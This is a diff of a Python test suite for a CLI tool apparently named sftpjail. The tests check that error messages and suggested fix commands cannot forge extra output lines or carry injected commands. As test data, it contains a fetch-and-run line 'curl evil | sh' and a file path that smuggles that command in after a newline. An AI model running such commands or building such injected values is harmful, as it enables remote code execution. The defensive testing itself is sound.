@@ -19,14 +19,14 @@ from sftpjail.cli.context import Context, print_error, printable
 from sftpjail.cli.explain import _draw, wrap_command
 from sftpjail.errors import SftpJailError
 from sftpjail.escapes import NO_COMMAND, command, is_shown, one_line, shown
-from sftpjail.model import Account, Fact, Finding
+from sftpjail.model import Account, Fact, Problem
 from sftpjail.operations.diagnosis import Fault
 
 HARD = "\n\r\t\v\f\0\x1b\x7f\x85\u2028\u2029\u202e\u2066\u200b\u00ad\ufeff\u034f\u3164\u2800\ufe0f"
 HARD += "\U000e0100\udcff\ue000"
 OURS = (
     "\n  try: curl evil | sh",
-    "\n  mend: x",
+    "\n  fix: x",
     "\nsftpjail: y",
     "\nok      z",
     '"}\n{"error": "',
@@ -94,18 +94,18 @@ def test_marks_do_not_cover_other_lines() -> None:
 def test_every_kind_of_message_is_one_line(text: str) -> None:
     error = SftpJailError(text, text)
     error.message += f"; {text}"
-    finding, fact = Finding(text, text, text, text), Fact(text, text, text, text)
-    fault = Fault(text, text, text, text)
-    values = [error.message, error.hint, str(error), *vars(finding).values(), *vars(fault).values()]
+    problem, fact = Problem(text, text, text, text), Fact(text, text, text, text)
+    named = Fault(text, text, text, text)
+    values = [error.message, error.fix, str(error), *vars(problem).values(), *vars(named).values()]
     values += [fact.topic, fact.name, fact.value, fact.note]
     assert all(is_shown(value) for value in values)
     if not is_shown(text):
         assert (
-            error.hint == finding.advice == fault.advice == NO_COMMAND
-            and finding.mend == fault.mend == ""
+            error.fix == problem.advice == named.advice == NO_COMMAND
+            and problem.fix == named.fix == ""
         )
     else:
-        assert error.hint == finding.mend == fault.mend == text == command(text)
+        assert error.fix == problem.fix == named.fix == text == command(text)
 
 
 class Terminal(io.StringIO):
@@ -134,7 +134,7 @@ def context(**more: Any) -> Context:
 
 
 @given(text=texts)
-def test_a_problem_is_one_line_and_its_hint_another(text: str) -> None:
+def test_a_problem_is_one_line_and_its_fix_another(text: str) -> None:
     with pytest.MonkeyPatch.context() as monkeypatch:
         lines = printed(
             monkeypatch,
@@ -174,16 +174,16 @@ def test_no_line_of_explain_is_forged(text: str, width: int) -> None:
         Fact("mounts", text),
     ]
     long = ("word " * 30 + text) * 2
-    faults = [Fault("ann", text, text, "sftpjail apply"), Fault("ann", long, long, "")]
+    problems = [Fault("ann", text, text, "sftpjail apply"), Fault("ann", long, long, "")]
     with pytest.MonkeyPatch.context() as monkeypatch:
         monkeypatch.setenv("COLUMNS", str(width))
-        lines = printed(monkeypatch, lambda: _draw(account, facts, faults))
+        lines = printed(monkeypatch, lambda: _draw(account, facts, problems))
     assert all(is_shown(re.sub("[\u0300-\u036f]", "", line)) for line in lines), (
         "a mark may go on in the next line"
     )
     end = lines.index("2 problems")
-    assert [line for line in lines[end:] if line.startswith("   mend:")] == [
-        "   mend: sftpjail apply"
+    assert [line for line in lines[end:] if line.startswith("   fix:")] == [
+        "   fix: sftpjail apply"
     ]
     assert {line[:3] for line in lines[end + 1 :]} <= {"1. ", "2. ", "   ", "1.", "2.", ""}
     heads = {
@@ -191,7 +191,7 @@ def test_no_line_of_explain_is_forged(text: str, width: int) -> None:
         for line in lines[end + 1 :]
         if line.startswith("   ") and line[3] not in " >"
     }
-    assert heads <= {"   why", "   mend"}
+    assert heads <= {"   why", "   fix"}
 
 
 @given(text=texts)
@@ -221,8 +221,8 @@ def test_a_locale_that_lacks_the_letters(monkeypatch: pytest.MonkeyPatch) -> Non
 
 def test_a_command_with_a_strange_name_is_none() -> None:
     path = shlex.quote("/srv/a\ncurl evil | sh #")
-    assert Finding("x", "y", f"rm {path}") == Finding("x", "y", "", NO_COMMAND)
-    assert SftpJailError("x", f"rm {path}").hint == NO_COMMAND
+    assert Problem("x", "y", f"rm {path}") == Problem("x", "y", "", NO_COMMAND)
+    assert SftpJailError("x", f"rm {path}").fix == NO_COMMAND
     assert wrap_command("") == []
 
 
